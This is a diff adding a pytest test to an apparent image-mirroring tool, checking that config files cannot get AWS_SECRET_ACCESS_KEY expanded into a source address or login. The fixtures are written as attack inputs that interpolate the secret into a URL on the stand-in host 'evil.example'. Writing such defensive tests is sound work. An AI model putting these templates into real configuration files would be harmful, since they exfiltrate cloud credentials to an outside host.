@@ -95,6 +95,18 @@ def test_variables_of_addresses_are_replaced_when_they_are_set(
     assert "password: {env: WHERE}" in said.out
 
 
+def test_variables_with_secrets_are_written_nowhere(desk: Desk, typed: Typed, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A stranger's file cannot have a secret of the shell written into an address, from where it would be sent."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2")
+    step = "  - {source: 'evil.example/{{env \"AWS_SECRET_ACCESS_KEY\"}}', target: t.example/a, type: image}\n"
+    images = put(desk, 'a.example/x: "evil.example/$AWS_SECRET_ACCESS_KEY"\n', "images.yaml")
+    logins = put(desk, 'a.example: {username: "$AWS_SECRET_ACCESS_KEY", password: p}\n', "auth.yaml")
+    for names in ((put(desk, f"sync:\n{step}"),), (images, logins)):
+        said = typed("import", *names)
+        assert "hunter2" not in said.out + said.err
+        assert said.err.count("AWS_SECRET_ACCESS_KEY, which may be a secret and is not written") == len(names)
+
+
 BAD = {
     "empty": (b"", 64, "is of no known format; known are regsync, image-syncer"),
     "a text": (b"Dear all,\nplease mirror this.\n", 64, "is of no known format"),
